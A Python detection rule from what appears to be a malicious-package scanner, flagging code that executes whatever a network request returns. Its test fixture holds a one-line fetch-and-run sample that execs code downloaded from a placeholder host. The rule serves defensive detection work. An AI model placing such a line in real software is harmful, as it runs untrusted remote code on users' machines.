"""What came from the network is executed."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import BY_ITSELF, HOLD, REVIEW, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    for code in view.of(v.EXEC, v.PROC, v.LOAD):
        if "remote" in code.taints:
            itself = code.reach in BY_ITSELF and code.kind != v.LOAD
            yield Hit("what the network answers is executed", (code,), HOLD if itself else REVIEW)


RULE = Rule(
    name="remote-execution",
    description="What a network request returns is executed, as code or as a command.",
    grade=HOLD,
    find=_find,
    fires={
        "acme/__init__.py": (
            "import urllib.request\nexec(urllib.request.urlopen('https://example.test/x').read())\n"
        )
    },
    quiet={
        "acme/__init__.py": (
            "import json, urllib.request\n\ndef news():\n"
            "    return json.load(urllib.request.urlopen('https://example.test/x'))\n"
        )
    },
    rates="36 of 2,004 malicious clusters, none of 200 popular archives",
)
